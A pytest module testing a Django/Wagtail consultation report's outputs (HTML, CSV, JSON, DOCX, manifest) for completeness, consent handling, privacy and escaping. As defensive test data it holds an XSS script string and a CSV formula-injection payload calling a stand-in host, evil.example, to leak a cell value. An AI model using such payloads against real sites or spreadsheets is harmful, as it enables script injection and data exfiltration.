"""The consultation report: complete (every confirmed comment), faithful to consent, leak-free, inert."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import docx
import pytest

from django.contrib.auth.models import AnonymousUser
from django.http import Http404
from django.test import RequestFactory
from django.utils import timezone, translation

from wagtail.models import Locale

from consultations.models import CommentState, Consent, Decision, Kind
from consultations.report import FORMATS, build_report, report_response
from tests.consultations.factories import CommentFactory, ConsultationPageFactory
from tests.consultations.report_helpers import add_comments_in_turn, queries_for_report
from tests.module_rows import home_page_of_the_module, once_per_module

pytestmark = pytest.mark.django_db

XSS = "<script>alert(1)</script>"


@once_per_module
def page(module_rows):
    return ConsultationPageFactory(
        home=module_rows.home_page(),
        reported=True,
        report_intro="Канцеларија је размотрила све коментаре.",
    )


home_page = home_page_of_the_module()


def get(page, fmt, language="sr-cyrl"):
    with translation.override(language):
        request = RequestFactory().get(f"/{language}/report/")
        request.user = AnonymousUser()
        request.LANGUAGE_CODE = language
        return report_response(request, page, fmt)


def docx_text(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    parts = [paragraph.text for paragraph in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def csv_rows(response) -> list[dict]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def all_outputs(page, language="sr-cyrl") -> dict[str, str]:
    """The five formats as text: what a visitor or a downloader gets."""
    responses = {fmt: get(page, fmt, language) for fmt in FORMATS}
    outputs = {fmt: response.content.decode("utf-8") for fmt, response in responses.items() if fmt != "docx"}
    outputs["docx"] = docx_text(responses["docx"].content)
    with zipfile.ZipFile(io.BytesIO(responses["docx"].content)) as archive:
        outputs["docx-xml"] = "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    return outputs


def articles(page):
    return list(page.articles.order_by("sort_order"))


def test_statistics_count_every_confirmed_comment_by_article_kind_and_decision(page):
    first, second, _third = articles(page)
    CommentFactory(consultation=page, article=first, kind=Kind.CHANGE, decision=Decision.ACCEPTED)
    CommentFactory(consultation=page, article=first, kind=Kind.CHANGE, decision=Decision.PARTLY)
    CommentFactory(consultation=page, article=second, kind=Kind.DELETE, decision=Decision.NOT_ACCEPTED)
    CommentFactory(consultation=page, article=None, kind=Kind.GENERAL, state=CommentState.CONFIRMED)
    CommentFactory(
        consultation=page, article=first, kind=Kind.ADD, state=CommentState.REJECTED, rejection_reason="spam"
    )
    CommentFactory(consultation=page, article=second, kind=Kind.ADD, consent=Consent.PRIVATE, decision=Decision.NOTED)
    CommentFactory(consultation=page, article=second, state=CommentState.UNCONFIRMED, tracking_number=None)

    with translation.override("en"):
        report = build_report(page)
    statistics = report.statistics

    assert (statistics.total, statistics.published, statistics.rejected, statistics.awaiting_moderation) == (6, 4, 1, 1)
    assert [(count.key, count.count) for count in statistics.per_article] == [("", 1), ("1", 3), ("2", 2), ("3", 0)]
    assert statistics.per_article[0].label == "The draft as a whole"
    assert {count.key: count.count for count in statistics.per_kind} == {
        Kind.GENERAL: 1,
        Kind.CHANGE: 2,
        Kind.DELETE: 1,
        Kind.ADD: 2,
    }
    assert {count.key: count.count for count in statistics.per_decision} == {
        Decision.ACCEPTED: 1,
        Decision.PARTLY: 1,
        Decision.NOT_ACCEPTED: 1,
        Decision.NOTED: 1,
        "rejected": 1,
        "none": 1,
    }
    assert len(report.rows) == 6 and report.facts.comments == 6

    data = json.loads(get(page, "json").content)
    assert data["statistics"]["total"] == 6
    assert {item["decision"]: item["count"] for item in data["statistics"]["per_decision"]}["none"] == 1
    assert len(data["comments"]) == 6 and len(csv_rows(get(page, "csv"))) == 6


def test_consent_decides_what_is_shown(page):
    article = page.articles.first()

    def comment(organisation_name, justification, **fields):
        return CommentFactory(
            consultation=page,
            article=article,
            organisation_name=organisation_name,
            justification=justification,
            **fields,
        )

    public = comment("Јавно удружење", "Јавно образложење.")
    anonymous = comment("Безимено удружење", "Анонимно образложење.", consent=Consent.ANONYMOUS)
    private = comment(
        "Тајно удружење", "Тајно образложење.", consent=Consent.PRIVATE, proposed_wording="Тајни предлог."
    )
    rejected = comment("Одбијено удружење", "Увредљив текст.", state=CommentState.REJECTED, rejection_reason="abusive")

    with translation.override("en"):
        report = build_report(page)
    assert report.organisations == ["Јавно удружење"]
    rows = {row.tracking_number: row for row in report.rows}
    assert rows[public.tracking_number].organisation == "Јавно удружење"
    assert rows[anonymous.tracking_number].organisation == ""
    assert rows[anonymous.tracking_number].justification == "Анонимно образложење."
    assert not rows[private.tracking_number].text_shown
    assert rows[private.tracking_number].withheld == "Not published at the author's request."
    assert rows[rejected.tracking_number].withheld == "Rejected: abusive."

    outputs = all_outputs(page)
    for fmt, text in outputs.items():
        for hidden in (
            "Безимено удружење",
            "Тајно удружење",
            "Тајни предлог.",
            "Тајно образложење.",
            "Увредљив текст.",
        ):
            assert hidden not in text, (fmt, hidden)
        if fmt != "manifest":
            assert "Јавно образложење." in text and "Анонимно образложење." in text, fmt
            for comment in (public, anonymous, private, rejected):
                assert comment.tracking_number in text, fmt
    csv_by_number = {row["tracking_number"]: row for row in csv_rows(get(page, "csv", "en"))}
    assert csv_by_number[private.tracking_number]["justification"] == "Not published at the author's request."
    assert csv_by_number[private.tracking_number]["proposed_wording"] == ""
    assert csv_by_number[private.tracking_number]["kind"] == Kind.CHANGE
    assert csv_by_number[rejected.tracking_number]["state"] == CommentState.REJECTED


def test_no_contact_data_or_identifiers_in_any_format(page):
    comments = [
        CommentFactory(
            consultation=page, article=page.articles.first(), consent=consent, state=state, tax_id="101134702"
        )
        for consent in Consent.values
        for state in (CommentState.PUBLISHED, CommentState.CONFIRMED, CommentState.REJECTED)
    ]
    comments.append(
        CommentFactory(
            consultation=page,
            article=None,
            attachment="consultations/attachments/2025/01/prilog-tajni.pdf",
            attachment_sha256="f" * 64,
        )
    )

    for language in ("sr-cyrl", "en"):
        outputs = all_outputs(page, language)
        for fmt, text in outputs.items():
            for comment in comments:
                for secret in (comment.contact_email, comment.contact_phone, comment.contact_name):
                    assert secret not in text, (fmt, secret)
                assert comment.registration_number not in text, fmt
                assert comment.submission_token not in text, fmt
            assert "101134702" not in text and "prilog-tajni" not in text and "f" * 64 not in text, fmt
            assert "udruzenje.example" not in text, fmt


def test_markup_from_commenters_is_escaped_in_html_and_inert_elsewhere(page):
    CommentFactory(consultation=page, article=page.articles.first(), organisation_name=XSS, justification=XSS)

    html = get(page, "html").content.decode()
    assert XSS not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    response = get(page, "csv")
    assert response["Content-Type"].startswith("text/csv") and response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    [row] = csv_rows(response)
    assert row["organisation"] == XSS and row["justification"] == XSS

    response = get(page, "json")
    assert response["Content-Type"].startswith("application/json")
    assert b"<script>" not in response.content
    data = json.loads(response.content)
    assert data["organisations"] == [XSS]
    assert data["comments"][0]["justification"] == XSS

    content = get(page, "docx").content
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert XSS in cells, "the organisation appears as literal text"
    assert any(cell.endswith(XSS) for cell in cells), "the justification appears as literal text"
    assert XSS in [paragraph.text for paragraph in document.paragraphs]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "<script>" not in body and "&lt;script&gt;alert(1)&lt;/script&gt;" in body


def test_csv_neutralises_spreadsheet_formulas(page):
    article = page.articles.first()
    CommentFactory(
        consultation=page,
        article=article,
        organisation_name="-1",
        proposed_wording="+1",
        justification='=HYPERLINK("http://evil.example/?x="&A1,"Кликни")',
        decision=Decision.NOTED,
        decision_reasons="@SUM(A1:A9)",
    )
    CommentFactory(consultation=page, article=article, proposed_wording="\tтаб", justification="\r=1+1")

    rows = csv_rows(get(page, "csv"))
    first = next(row for row in rows if row["organisation"] == "'-1")
    assert first["proposed_wording"] == "'+1"
    assert first["justification"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Кликни")'
    assert first["decision_reasons"] == "'@SUM(A1:A9)"
    second = next(row for row in rows if row["proposed_wording"].startswith("'\t"))
    assert second["proposed_wording"] == "'\tтаб" and second["justification"] == "'\r=1+1"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    data = json.loads(get(page, "json").content)
    assert {row["proposed_wording"] for row in data["comments"]} == {"+1", "\tтаб"}, "JSON keeps the data as it is"


def test_manifest_lists_every_confirmed_comment_sorted_and_no_unconfirmed_one(page):
    article = page.articles.first()
    confirmed = [
        CommentFactory(consultation=page, article=article),
        CommentFactory(consultation=page, article=None, consent=Consent.PRIVATE),
        CommentFactory(consultation=page, article=article, consent=Consent.ANONYMOUS, state=CommentState.CONFIRMED),
        CommentFactory(consultation=page, article=article, state=CommentState.REJECTED, rejection_reason="duplicate"),
    ]
    unconfirmed = CommentFactory(
        consultation=page, article=article, state=CommentState.UNCONFIRMED, tracking_number=None, justification="Нов."
    )

    response = get(page, "manifest", "en")
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    text = response.content.decode()
    header = [line for line in text.splitlines() if line.startswith("#")]
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert header and "SHA-256" in header[-1] and text.startswith("#")
    expected = sorted((c.tracking_number, c.text_sha256) for c in confirmed)
    assert lines == [f"{sha256}  {number}" for number, sha256 in expected]
    assert all(re.fullmatch(r"[0-9a-f]{64}  JK-[A-Z0-9]{5}-[A-Z0-9]{5}", line) for line in lines)
    assert unconfirmed.text_sha256 not in text

    data = json.loads(get(page, "json").content)
    assert [(item["tracking_number"], item["text_sha256"]) for item in data["manifest"]] == expected
    assert unconfirmed.text_sha256 not in get(page, "csv").content.decode()


@pytest.mark.parametrize("fmt", [*FORMATS, "xml"])
def test_no_report_before_it_is_published(home_page, fmt):
    page = ConsultationPageFactory(home=home_page, opens_in=-timedelta(days=30), closes_in=-timedelta(days=1))
    CommentFactory(consultation=page, article=page.articles.first())

    with pytest.raises(Http404):
        get(page, fmt)


def test_unknown_format_is_not_found(page):
    with pytest.raises(Http404):
        get(page, "pdf")


def test_build_report_runs_the_same_number_of_queries_for_5_and_50_comments(page):
    article_ids = [article.pk for article in articles(page)] + [None]

    def add(count):
        add_comments_in_turn(page, count, article_ids, consent=lambda n: Consent.values[n % 3])

    add(5)
    few, report = queries_for_report(page)
    assert report.statistics.total == 5
    add(45)
    many, report = queries_for_report(page)
    assert report.statistics.total == 50
    assert few == many <= 6


def test_latin_twin_shows_the_originals_comments_in_latin(page):
    twin = page.get_translation(Locale.objects.get(language_code="sr-latn")).specific
    CommentFactory(consultation=page, article=page.articles.first(), justification="Образложење на ћирилици.")

    with translation.override("sr-latn"):
        report = build_report(twin)
    assert report.statistics.total == 1
    assert report.rows[0].target.endswith("Predmet 1")
    assert report.rows[0].justification == "Образложење на ћирилици.", "commenters' text stays as written"
    assert report.facts.responsible_body == "Gradska uprava za opšte poslove"

    html = get(twin, "html", "sr-latn").content.decode()
    assert "Predmet 1" in html and "Образложење на ћирилици." in html


def test_html_page_links_every_format_and_uses_accessible_tables(page):
    CommentFactory(consultation=page, article=page.articles.first())

    response = get(page, "html", "en")
    html = response.content.decode()

    assert response.status_code == 200
    for name in ("report_docx", "report_csv", "report_json", "report_manifest"):
        assert f'href="{page.url}{page.reverse_subpage(name)}"' in html
    # Totals, per article, kind, decision, channel, respondent type; the comments.
    assert html.count("<table") == html.count("<caption") == 7
    assert 'scope="col"' in html and 'scope="row"' in html
    assert "Канцеларија је размотрила све коментаре." not in html, "editor text in the visitor's script"
    assert "Kancelarija je razmotrila sve komentare." in html


def test_downloads_are_attachments_with_ascii_names(page):
    CommentFactory(consultation=page, article=page.articles.first())

    response = get(page, "docx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    for fmt in ("docx", "csv", "json"):
        disposition = get(page, fmt)["Content-Disposition"]
        assert re.fullmatch(rf'attachment; filename="izvestaj-[a-z0-9-]+\.{fmt}"', disposition), disposition

    text = docx_text(response.content)
    document = docx.Document(io.BytesIO(response.content))
    per_article = document.tables[1]
    assert [row.cells[1].text for row in per_article.rows[1:]] == ["0", "1", "0", "0"], "zero counts are written"
    assert page.title in text and "Градска управа за опште послове" in text
    opens = timezone.localtime(page.opens_at, timezone.get_default_timezone())
    assert f"{opens.day}. {opens.month}. {opens.year}. {opens:%H:%M}" in text, "period in Belgrade time"


def test_report_page_is_served_at_its_route(client, page):
    CommentFactory(consultation=page, article=page.articles.first(), justification="Образложење за руту.")

    response = client.get(page.url + page.reverse_subpage("report"))

    assert response.status_code == 200
    assert "Образложење за руту." in response.content.decode()


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("report_docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("report_csv", "text/csv; charset=utf-8"),
        ("report_json", "application/json; charset=utf-8"),
        ("report_manifest", "text/plain; charset=utf-8"),
    ],
)
def test_downloads_are_served_at_their_routes(client, page, name, content_type):
    CommentFactory(consultation=page, article=page.articles.first())

    response = client.get(page.url + page.reverse_subpage(name))

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
